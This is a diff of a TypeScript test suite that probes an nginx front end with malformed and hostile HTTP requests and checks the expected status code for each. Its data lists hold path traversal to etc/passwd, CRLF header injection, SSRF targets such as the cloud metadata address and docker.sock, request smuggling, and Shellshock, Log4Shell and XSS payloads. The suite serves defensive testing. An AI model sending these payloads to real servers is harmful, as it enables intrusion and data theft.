+    ../¦..%2f¦%2e%2e/¦%2e%2e%2f¦.%2e/¦%2E./¦..\\¦..%5c¦%2e%2e%5c¦%252e%252e/¦..%252f¦
+    %252e%252e%252f¦%25252e%25252e%25252f¦..%255c¦..%c0%af¦%c0%ae%c0%ae/¦%c0%ae%c0%ae%c0%af¦
+    ..%c1%9c¦%e0%80%ae%e0%80%ae%e0%80%af¦%f0%80%80%ae%f0%80%80%ae/¦..\xc0\xaf¦\xc0\xae\xc0\xae/¦
+    %u002e%u002e%u2215¦%uff0e%uff0e/¦..;/¦..;x=y/¦..%3b/¦....//¦..././¦.../¦..%00/¦..\0/¦..%0a/¦
+    ..%09/¦..%20/¦..//¦./../¦/../¦%2f..%2f¦..%ef%bc%8f¦\u00ef\u00bc\u008e\u00ef\u00bc\u008e/
+  `);
   const targets = ["etc/passwd", "etc/nginx/conf.d/default.conf", "app/package.json"];
   const starts = ["/", "/images/", "/api/", "/api/hello/"];
   const everywhere = starts.flatMap((start) =>
     targets.flatMap((target) => up.map((step) => `${start}${step.repeat(6)}${target}`)),
   );
-  // One step up, and the rest is no path any more: that is the front page
+  // One step up; the rest is a query or a fragment. That is the front page
   const cut = ["/images/", "/api/"].flatMap((start) =>
     ["..?/", "..#/"].map((step) => `${start}${step.repeat(6)}etc/passwd`),
   );
   const others: ByOutcome = {
-    "404": [
-      ...["/.git/config", "/.env", "/.htaccess", "/Dockerfile", "/package.json"],
-      ...["/softy-pinko-front-end.conf", "/index.html~", "/index.html.bak", "/.index.html.swp"],
-      ...["/index.html%20", "/index.html/", "/index.html/x", "/index.html.", "/INDEX.HTML"],
-      ...["/index.html;x", "/index.html%3fx", "/index.html::$DATA", `//${foreignHost}`],
-      ...[`/\\${foreignHost}`, `/%5c${foreignHost}`, `/%2f%2f${foreignHost}`, "/\\images"],
-      ...["/images%0d%0aX-Injected:%20yes", "/%0d%0a%0d%0a", "/api", "/api/", "/api/hello/.."],
-      ...["/api/hello/../hello", "/api//hello", "/api/./hello", "/api/%68ello", "/api/hello%2f"],
-      ...["/api/hello;x", "/api/hello%3fx", "/api/hello%0d%0aX-Injected:%20yes", "/%61pi/hello"],
-      ...["/API/hello", "/api%2fhello", "//api/hello", "/images/../api/hello"],
-      ...["/images/..%2fapi/hello", "/apix", "/api.hello", "/health/../api/health", "/health/"],
-      ...["/api/health", "/%c3%28", "/%ff", "/\xff", "/api/%c0%af", "/api/%ff", "/nginx_status"],
-      ...["/server-status", "/cgi-bin/x.sh", "/wp-login.php", "/actuator/env", "/metrics"],
-      ...["/debug/pprof/", "/index.php?file=../../../etc/passwd"],
-    ],
-    "400": [
-      ...["/index.html%00.txt", "/index.html\0", "/images/../../index.html", "/api/hello%00", "/%"],
-      ...["/%2", "/%zz", "/%00", "/api/%", "/api/%zz", "/api/\xff"],
-      "/../../../../../../proc/self/environ",
-    ],
-    "301": [...["/images", "//images", "/%2fimages", "/./images", "/images?x=//a"]],
-    "403": [...["/images/", "/images/.", "/images%2f", "/images/%0aX-Injected:x/.."]],
-    "200": [
-      ...["/images/..", "/images/../", "/images/../index.html", "/images%2f..%2findex.html", "//"],
-      ...["///", "//index.html", "/.//index.html", "/./index.html", "/images//hero.svg"],
-      ...[`//${foreignHost}/..`, `//${foreignHost}/%2e%2e`, "/api/..", "/api/../"],
-      ...["/api/../index.html", "/api/%2e%2e/index.html", "/api/hello/../../index.html"],
-      ...["/api/hello/", "/api/../health", "/?%zz", "/api/hello?%zz"],
-      ...["/api/hello?a[__proto__]=1&__proto__[x]=1", "/api/hello?a=%00"],
-    ],
+    "404": listOf(`
+      /.git/config¦/.env¦/.htaccess¦/Dockerfile¦/package.json¦/softy-pinko-front-end.conf¦
+      /index.html~¦/index.html.bak¦/.index.html.swp¦/index.html%20¦/index.html/¦/index.html/x¦
+      /index.html.¦/INDEX.HTML¦/index.html;x¦/index.html%3fx¦/index.html::$DATA¦//${foreignHost}¦
+      /\\${foreignHost}¦/%5c${foreignHost}¦/%2f%2f${foreignHost}¦/\\images¦
+      /images%0d%0aX-Injected:%20yes¦/%0d%0a%0d%0a¦/api¦/api/¦/api/hello/..¦/api/hello/../hello¦
+      /api//hello¦/api/./hello¦/api/%68ello¦/api/hello%2f¦/api/hello;x¦/api/hello%3fx¦
+      /api/hello%0d%0aX-Injected:%20yes¦/%61pi/hello¦/API/hello¦/api%2fhello¦//api/hello¦
+      /images/../api/hello¦/images/..%2fapi/hello¦/apix¦/api.hello¦/health/../api/health¦/health/¦
+      /api/health¦/%c3%28¦/%ff¦/\xff¦/api/%c0%af¦/api/%ff¦/nginx_status¦/server-status¦
+      /cgi-bin/x.sh¦/wp-login.php¦/actuator/env¦/metrics¦/debug/pprof/¦
+      /index.php?file=../../../etc/passwd
+    `),
+    "400": listOf(`
+      /index.html%00.txt¦/index.html\0¦/images/../../index.html¦/api/hello%00¦/%¦/%2¦/%zz¦/%00¦
+      /api/%¦/api/%zz¦/api/\xff¦/../../../../../../proc/self/environ
+    `),
+    "301": listOf(`/images¦//images¦/%2fimages¦/./images¦/images?x=//a`),
+    "403": listOf(`/images/¦/images/.¦/images%2f¦/images/%0aX-Injected:x/..`),
+    "200": listOf(`
+      /images/..¦/images/../¦/images/../index.html¦/images%2f..%2findex.html¦//¦///¦//index.html¦
+      /.//index.html¦/./index.html¦/images//hero.svg¦//${foreignHost}/..¦//${foreignHost}/%2e%2e¦
+      /api/..¦/api/../¦/api/../index.html¦/api/%2e%2e/index.html¦/api/hello/../../index.html¦
+      /api/hello/¦/api/../health¦/?%zz¦/api/hello?%zz¦/api/hello?a[__proto__]=1&__proto__[x]=1¦
+      /api/hello?a=%00
+    `),
   };
   return [
     ...rowsOf({ "400|404": everywhere, "200": cut }, (target) => get(target)),
@@ -388,69 +323,60 @@ function hosts(): Row[] {
   const on = (...lines: string[]): string =>
     message("GET / HTTP/1.1", ...lines, "Connection: close");
   const values: ByOutcome = {
-    "400": [
-      ...["", " ", "a b", "local/host", "local\\host", "localhost:80:80", "localhost:abc"],
-      ...["localhost:99999", "[::1", "::1", "user@localhost", "localhost, localhost", "localhost?"],
-      ...["localhost#x", "..", ".", "localhost..", "localhost\0", "\0", "\x01", "localhost\t"],
-      ...["<script>alert(1)</script>", "{{7*7}}", "a\u00ffb", "'; --", "unix:/var/run/docker.sock"],
-    ],
-    "200": [
-      ...["localhost:", "[::1]", "[::1]:80", "%00", "127.0.0.1", "0x7f.1", "LOCALHOST"],
-      ...["localhost.", "*", "_", "-", "169.254.169.254", foreignHost, `${foreignHost}:80`],
-      "a".repeat(300),
-      `${"a.".repeat(200)}example`,
-    ],
+    "400": listOf(`
+      ¦ ¦a b¦local/host¦local\\host¦localhost:80:80¦localhost:abc¦localhost:99999¦[::1¦::1¦
+      user@localhost¦localhost, localhost¦localhost?¦localhost#x¦..¦.¦localhost..¦localhost\0¦\0¦
+      \x01¦localhost\t¦<script>alert(1)</script>¦{{7*7}}¦a\u00ffb¦'; --¦unix:/var/run/docker.sock
+    `),
+    "200": listOf(`
+      localhost:¦[::1]¦[::1]:80¦%00¦127.0.0.1¦0x7f.1¦LOCALHOST¦localhost.¦*¦_¦-¦169.254.169.254¦
+      ${foreignHost}¦${foreignHost}:80¦${"a".repeat(300)}¦${"a.".repeat(200)}example
+    `),
   };
+  const lines: ByOutcome = {
+    "400": listOf(`
+      Host: localhost|Host: localhost¦Host: localhost|Host: ${foreignHost}¦
+      Host: ${foreignHost}|Host: localhost¦Host : localhost¦ Host: localhost¦
+      Host: localhost| localhost¦Host\r\n : localhost
+    `),
+    "200": listOf(`
+      Host:localhost¦Host: localhost|X-Forwarded-Host: ${foreignHost}¦
+      Host: localhost|X-Host: ${foreignHost}|Forwarded: host=${foreignHost}
+    `),
+  };
+  const targets = { "301": ["//images", "/images"], "404": ["/nothing"], "200": ["/api/hello"] };
+  const forwarded = `X-Forwarded-Host: ${foreignHost}`;
   return [
     ...rowsOf(values, (value) => on(`Host: ${value}`)),
+    ...rowsOf(lines, (text) => on(...text.split("|"))),
+    ...rowsOf(targets, (target) =>
+      message(`GET ${target} HTTP/1.1`, `Host: ${foreignHost}`, "Connection: close"),
+    ),
     [on(), "400"],
-    [on("Host: localhost", "Host: localhost"), "400"],
-    [on("Host: localhost", `Host: ${foreignHost}`), "400"],
-    [on(`Host: ${foreignHost}`, "Host: localhost"), "400"],
-    [on("Host : localhost"), "400"],
-    [on(" Host: localhost"), "400"],
-    [on("Host: localhost", " localhost"), "400"],
-    [on("Host\r\n : localhost"), "400"],
-    [on("Host:localhost"), "200"],
-    [on("Host: localhost", `X-Forwarded-Host: ${foreignHost}`), "200"],
-    [on("Host: localhost", `X-Host: ${foreignHost}`, `Forwarded: host=${foreignHost}`), "200"],
-    [message("GET //images HTTP/1.1", `Host: ${foreignHost}`, "Connection: close"), "301"],
-    [message("GET /images HTTP/1.1", `Host: ${foreignHost}`, "Connection: close"), "301"],
-    [
-      message(
-        "GET /images HTTP/1.1",
-        "Host: localhost",
-        `X-Forwarded-Host: ${foreignHost}`,
-        "Connection: close",
-      ),
-      "301",
-    ],
+    [request("GET /images", forwarded, "Connection: close"), "301"],
     [message("GET /images HTTP/1.0", `Host: ${foreignHost}`), "301"],
-    [message("GET /nothing HTTP/1.1", `Host: ${foreignHost}`, "Connection: close"), "404"],
-    [message("GET /api/hello HTTP/1.1", `Host: ${foreignHost}`, "Connection: close"), "200"],
     [message("GET /images HTTP/1.0"), "301"],
   ];
 }
 
 function forms(): Row[] {
   const targets: ByOutcome = {
-    "200": [
-      ...[`http://${foreignHost}/`, `http://${foreignHost}/api/hello`, `http://${foreignHost}`],
-      ...["http://localhost/api/hello", "https://localhost/", "HTTP://localhost/"],
-      ...["http://localhost:81/", "http://[::1]/", "ftp://localhost/"],
-      ...["http://back-end:5252/health", "http://back-end:5252/api/hello", "/#x", "/#/../.."],
-    ],
-    "400": [
-      ...["http://user:pw@localhost/", `http://localhost@${foreignHost}/`, "http:///", "http://"],
-      ...["http:/", "http:", "file:///etc/passwd", "javascript:alert(1)"],
-      ...["http://localhost/../../etc/passwd", "http://localhost%00/", "localhost:80", "localhost"],
-      ...["*", "?", "?x", "#", "#x", "api/hello", "..", "../etc/passwd", "\\"],
-      ...["@back-end:5252/health", ":5252/health", "@front-end-away", "@back-end-again"],
-    ],
-    "404": [
-      ...["gopher://localhost:70/x", "http://169.254.169.254/latest/meta-data/"],
-      ...["http://127.0.0.1:2375/version", "http://unix:/var/run/docker.sock:/version"],
-    ],
+    "200": listOf(`
+      http://${foreignHost}/¦http://${foreignHost}/api/hello¦http://${foreignHost}¦
+      http://localhost/api/hello¦https://localhost/¦HTTP://localhost/¦http://localhost:81/¦
+      http://[::1]/¦ftp://localhost/¦http://back-end:5252/health¦http://back-end:5252/api/hello¦/#x¦
+      /#/../..
+    `),
+    "400": listOf(`
+      http://user:pw@localhost/¦http://localhost@${foreignHost}/¦http:///¦http://¦http:/¦http:¦
+      file:///etc/passwd¦javascript:alert(1)¦http://localhost/../../etc/passwd¦http://localhost%00/¦
+      localhost:80¦localhost¦*¦?¦?x¦#¦#x¦api/hello¦..¦../etc/passwd¦\\¦@back-end:5252/health¦
+      :5252/health¦@front-end-away¦@back-end-again
+    `),
+    "404": listOf(`
+      gopher://localhost:70/x¦http://169.254.169.254/latest/meta-data/¦
+      http://127.0.0.1:2375/version¦http://unix:/var/run/docker.sock:/version
+    `),
   };
   const tunnels: ByOutcome = {
     "400": ["/", "*", `http://${foreignHost}/`],
@@ -464,7 +390,7 @@ function forms(): Row[] {
       briefly,
     ),
     ...rowsOf({ "400": ["*"], "405": ["/*", `http://${foreignHost}/*`] }, (target) =>
-      message(`OPTIONS ${target} HTTP/1.1`, "Host: localhost", "Connection: close"),
+      request(`OPTIONS ${target}`, "Connection: close"),
     ),
   ];
 }
@@ -474,52 +400,42 @@ function headers(): Row[] {
     `Authorization: Basic ${Buffer.from(text).toString("base64")}`;
   const forged = `x\n9.9.9.9 - - [now] "GET ${smuggled}in-the-log HTTP/1.1" 200 13`;
   const lines: Record<string, readonly string[]> = {
-    "400 / 400": [
-      ...["no colon", ": no name", "\0: x", "X\0: x", "X: \0", "X: a\0b", "X Y: x", "X\t: x"],
-      ...["X : x", " X: x", "\tX: x", "X: a\rb", `X: a\r b`, "X: a\r\n b", "X: a\r\n\tb"],
-      ...[`X: a\r\r${hidden}`, "Connection: \0"],
-      ...["If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT\0", "Accept-Encoding: \0"],
-      ...["Content-Type: \0", "X-Forwarded-For: \0", "Authorization: Basic \0", "HTTP/1.1 200 OK"],
-      "GET / HTTP/1.1",
-    ],
-    "200 / 200": [
-      ...["", "X(: x", "X\u00e4: x", "X: \u00e4", "X: a\r", "X: a\nb: c", `X: a\n\n${hidden}`],
-      ...[`X: %0d%0a%0d%0a${smuggled}${nameless}`, '"X": x', "X/Y: x", "X@Y: x", "{X}: x"],
-      ...["Connection: Host", "Connection: close, Host, Content-Length, X-Forwarded-For"],
-      ...["Connection: X-Forwarded-For", "Keep-Alive: timeout=-1, max=99999999999", "TE: trailers"],
-      ...["Trailer: Host", "Upgrade: h2c, websocket", "Via: 1.1 x", "Max-Forwards: 0"],
-      ...["Max-Forwards: -1", "Range: lines=1-2", `Range: bytes=0-${",0-".repeat(1_000)}`],
-      ...["If-Modified-Since: yesterday", 'If-None-Match: "', "If-Range: x"],
-      ...["Accept-Encoding: gzip;q=-1, *;q=999", "Accept: */*;q=99999999999999999999"],
-      ...["Accept: \x80", "Accept-Language: ../../etc/passwd", "Accept-Charset: x"],
-      ...["Content-Type: multipart/form-data", "Content-Encoding: gzip", "Content-Disposition: x"],
-      ...["Cookie: =;=;;", "Origin: null", `Origin: http://${foreignHost}`],
-      ...["Access-Control-Request-Method: DELETE", "X-HTTP-Method-Override: DELETE"],
-      ...["X-HTTP-Method: PUT", "X-Method-Override: POST", "X-Original-URL: /health"],
-      ...["X-Rewrite-URL: /health", "X-Accel-Redirect: /etc/passwd", "X-Sendfile: /etc/passwd"],
-      ...["X-Accel-Buffering: no", "X-Accel-Limit-Rate: 1", "Proxy: http://foreign.example"],
-      ...["Proxy-Connection: keep-alive", "Proxy-Authorization: Basic x", "Front-End-Https: on"],
-      ...["X-Forwarded-Proto: gopher", "X-Forwarded-For: 1.2.3.4"],
-      `X-Forwarded-For: ${"1.2.3.4, ".repeat(500)}`,
-      ...['Forwarded: for="_x";host=foreign.example', "X-Real-IP: 1.2.3.4"],
-      ...["True-Client-IP: 1.2.3.4", "User-Agent: () { :;}; echo X-Injected: yes"],
-      ...[
-        "User-Agent: \x24{jndi:ldap://foreign.example/a}",
-        "User-Agent: <script>alert(1)</script>",
-      ],
-      ...["User-Agent: %n%n%n%s", "Referer: javascript:alert(1)", "Authorization: Basic"],
-      ...["Authorization: Basic !!!", basic("user:password"), basic(forged), basic(`${forged}:x`)],
-      ...[basic("\0:\0"), basic("\x1b[2J:x"), `Authorization: Bearer ${"x".repeat(4_000)}`],
-      ...["Date: x", "Expires: 0", "Server: x", "Set-Cookie: a=b"],
-      ...["Location: http://foreign.example/", "Status: 500", "Content-Length: 0"],
-    ],
-    "200 / 400": [...["X: \x01\x02", "X: \x7f", "Cookie: \x01"]],
-    "416 / 200": [
-      ...["Range: bytes=0-18446744073709551615", "Range: bytes=99999-", "Range: bytes=5-1"],
-    ],
+    "400 / 400": listOf(`
+      no colon¦: no name¦\0: x¦X\0: x¦X: \0¦X: a\0b¦X Y: x¦X\t: x¦X : x¦ X: x¦\tX: x¦X: a\rb¦
+      X: a\r b¦X: a\r\n b¦X: a\r\n\tb¦X: a\r\r${hidden}¦Connection: \0¦
+      If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT\0¦Accept-Encoding: \0¦Content-Type: \0¦
+      X-Forwarded-For: \0¦Authorization: Basic \0¦HTTP/1.1 200 OK¦GET / HTTP/1.1
+    `),
+    "200 / 200": listOf(`
+      ¦X(: x¦X\u00e4: x¦X: \u00e4¦X: a\r¦X: a\nb: c¦X: a\n\n${hidden}¦
+      X: %0d%0a%0d%0a${smuggled}${nameless}¦"X": x¦X/Y: x¦X@Y: x¦{X}: x¦Connection: Host¦
+      Connection: close, Host, Content-Length, X-Forwarded-For¦Connection: X-Forwarded-For¦
+      Keep-Alive: timeout=-1, max=99999999999¦TE: trailers¦Trailer: Host¦Upgrade: h2c, websocket¦
+      Via: 1.1 x¦Max-Forwards: 0¦Max-Forwards: -1¦Range: lines=1-2¦
+      Range: bytes=0-${",0-".repeat(1_000)}¦If-Modified-Since: yesterday¦If-None-Match: "¦
+      If-Range: x¦Accept-Encoding: gzip;q=-1, *;q=999¦Accept: */*;q=99999999999999999999¦
+      Accept: \x80¦Accept-Language: ../../etc/passwd¦Accept-Charset: x¦
+      Content-Type: multipart/form-data¦Content-Encoding: gzip¦Content-Disposition: x¦Cookie: =;=;;¦
+      Origin: null¦Origin: http://${foreignHost}¦Access-Control-Request-Method: DELETE¦
+      X-HTTP-Method-Override: DELETE¦X-HTTP-Method: PUT¦X-Method-Override: POST¦
+      X-Original-URL: /health¦X-Rewrite-URL: /health¦X-Accel-Redirect: /etc/passwd¦
+      X-Sendfile: /etc/passwd¦X-Accel-Buffering: no¦X-Accel-Limit-Rate: 1¦
+      Proxy: http://foreign.example¦Proxy-Connection: keep-alive¦Proxy-Authorization: Basic x¦
+      Front-End-Https: on¦X-Forwarded-Proto: gopher¦X-Forwarded-For: 1.2.3.4¦
+      X-Forwarded-For: ${"1.2.3.4, ".repeat(500)}¦Forwarded: for="_x";host=foreign.example¦
+      X-Real-IP: 1.2.3.4¦True-Client-IP: 1.2.3.4¦User-Agent: () { :;}; echo X-Injected: yes¦
+      User-Agent: \x24{jndi:ldap://foreign.example/a}¦User-Agent: <script>alert(1)</script>¦
+      User-Agent: %n%n%n%s¦Referer: javascript:alert(1)¦Authorization: Basic¦
+      Authorization: Basic !!!¦${basic("user:password")}¦${basic(forged)}¦${basic(`${forged}:x`)}¦
+      ${basic("\0:\0")}¦${basic("\x1b[2J:x")}¦Authorization: Bearer ${"x".repeat(4_000)}¦Date: x¦
+      Expires: 0¦Server: x¦Set-Cookie: a=b¦Location: http://foreign.example/¦Status: 500¦
+      Content-Length: 0
+    `),
+    "200 / 400": ["X: \x01\x02", "X: \x7f", "Cookie: \x01"],
+    "416 / 200": listOf("Range: bytes=0-18446744073709551615¦Range: bytes=99999-¦Range: bytes=5-1"),
     "206 / 200": ["Range: bytes=-1"],
     "304 / 304": ["If-None-Match: *"],
-    "412 / 200": [...['If-Match: "x"', "If-Unmodified-Since: 0"]],
+    "412 / 200": ['If-Match: "x"', "If-Unmodified-Since: 0"],
     "501 / 501": ["Transfer-Encoding: identity"],
   };
   return Object.entries(lines).flatMap(([expected, list]) => {
@@ -532,68 +448,60 @@ function headers(): Row[] {
 }
 
 function earlyCloses(): Row[] {
-  const chunked = getAndStay("/api/hello", "Transfer-Encoding: chunked");
-  const post = message("POST /api/hello HTTP/1.1", "Host: localhost", "Content-Length: 100");
+  const chunked = request("GET /api/hello", "Transfer-Encoding: chunked");
+  const length = "Content-Length: 100";
+  const pages = ["/", "/api/hello", "/jquery.min.js"].map((target) => request(`GET ${target}`));
   const beginnings: ByOutcome = {
-    nothing: [
-      ...["", "G", "GET", "GET /", "GET / HTTP/1.1", "GET / HTTP/1.1\r", "GET / HTTP/1.1\r\n"],
-      ...["GET / HTTP/1.1\r\nHost: loc", "GET / HTTP/1.1\r\nHost: localhost\r\n"],
-      "GET / HTTP/1.1\r\nHost: localhost\r\n\r",
-    ],
+    nothing: listOf(`
+      ¦G¦GET¦GET /¦GET / HTTP/1.1¦GET / HTTP/1.1\r¦GET / HTTP/1.1\r\n¦GET / HTTP/1.1\r\nHost: loc¦
+      GET / HTTP/1.1\r\nHost: localhost\r\n¦GET / HTTP/1.1\r\nHost: localhost\r\n\r
+    `),
     "411": [chunked, `${chunked}5\r\nhe`],
-    "413": ["/", "/api/hello"].map((target) => `${getAndStay(target, "Content-Length: 100")}x`),
-    "405": [`${post}x`],
-    // A client that ends its side may have gone: nginx need not answer it, nor all it asked
-    "nothing|cut|(200 )*200( cut)?": [
-      ...["/", "/api/hello", "/jquery.min.js"].map((target) => getAndStay(target)),
-      ...["/", "/api/hello", "/jquery.min.js"].map((target) => getAndStay(target).repeat(50)),
-    ],
+    "413": [`${request("GET /", length)}x`, `${request("GET /api/hello", length)}x`],
+    "405": [`${request("POST /api/hello", length)}x`],
+    // A client that ends its side may be gone: nginx need not respond to all of its requests
+    "nothing|cut|(200 )*200( cut)?": [...pages, ...pages.map((page) => page.repeat(50))],
   };
+  const all = { "nothing left": Object.values(beginnings).flat() };
   return [
-    ...rowsOf(beginnings, (bytes) => bytes, { afterwards: "end" }),
-    ...rowsOf({ "nothing left": Object.values(beginnings).flat() }, (bytes) => bytes, {
-      afterwards: "leave",
-    }),
+    ...rowsOf(beginnings, undefined, { afterwards: "end" }),
+    ...rowsOf(all, undefined, { afterwards: "leave" }),
   ];
 }
 
 function pipelines(): Row[] {
-  const post = "POST /api/hello HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
   const garbage: ByOutcome = {
-    "400": [
-      ...["\0\0\0\0\r\n\r\n", "garbage\r\n\r\n", "\x16\x03\x01\x02\x00\x01", "{}\r\n"],
-      ...["GET / HTTP/1.1\r\n\r\n", "get / HTTP/1.1\r\nHost: localhost\r\n\r\n"],
-      ...["HTTP/1.1 200 OK\r\n\r\n", "GET /%00 HTTP/1.1\r\nHost: localhost\r\n\r\n", ` ${hidden}`],
-      ...[`\0${hidden}`, `0\r\n\r\n${hidden}`],
-    ],
+    "400": listOf(`
+      \0\0\0\0\r\n\r\n¦garbage\r\n\r\n¦\x16\x03\x01\x02\x00\x01¦{}\r\n¦GET / HTTP/1.1\r\n\r\n¦
+      get / HTTP/1.1\r\nHost: localhost\r\n\r\n¦HTTP/1.1 200 OK\r\n\r\n¦
+      GET /%00 HTTP/1.1\r\nHost: localhost\r\n\r\n¦ ${hidden}¦\0${hidden}¦0\r\n\r\n${hidden}
+    `),
     [`(${unknown})`]: ["GET / HTTP/9.9\r\n\r\n"],
     "405": [
-      "TRACE / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
-      `${post}Content-Length: 3\r\n\r\nabc`,
+      request("TRACE /", "Connection: close"),
+      `${request("POST /api/hello", "Connection: close", "Content-Length: 3")}abc`,
     ],
     "405 open": [`X${hidden}`],
   };
-  const after = (statuses: string, start: string, client: RawClient = {}): Row[] =>
+  const after = (status: string, start: string, client = briefly): Row[] =>
     Object.entries(garbage).flatMap(([expected, list]) =>
-      rowsOf({ [`${statuses} ${expected}`]: list }, (bytes) => start + bytes, {
-        ...briefly,
-        ...client,
-      }),
+      rowsOf({ [`${status} ${expected}`]: list }, (bytes) => start + bytes, client),
     );
-  const api = getAndStay(`${pipelined}${nameless}`);
+  const page = request("GET /");
+  const api = request(`GET ${pipelined}${nameless}`);
   return [
-    ...after("200", getAndStay("/")),
+    ...after("200", page),
     ...after("404", api),
-    ...after("200", message("HEAD / HTTP/1.1", "Host: localhost"), { heads: 1 }),
-    // By rights: each is served, once
+    ...after("200", request("HEAD /"), { ...briefly, heads: 1 }),
+    // Ordinary pipelining: each request is served once
     [api + next.replace("pipelined-", "pipelined-second-"), "404 404"],
-    [getAndStay("/") + next, "200 404"],
-    [getAndStay("/").repeat(20) + next, "(200 ){20}404"],
-    // After `Connection: close` nothing more is read
+    [page + next, "200 404"],
+    [page.repeat(20) + next, "(200 ){20}404"],
+    // After `Connection: close` nginx reads no more
     [get("/") + hidden, "200"],
     [get("/api/hello") + hidden, "200"],
     [message("GET /api/hello HTTP/1.0") + hidden, "200"],
-    [getAndStay("/api/hello", "Connection: CLOSE, x") + hidden, "200"],
+    [request("GET /api/hello", "Connection: CLOSE, x") + hidden, "200"],
   ];
 }
 
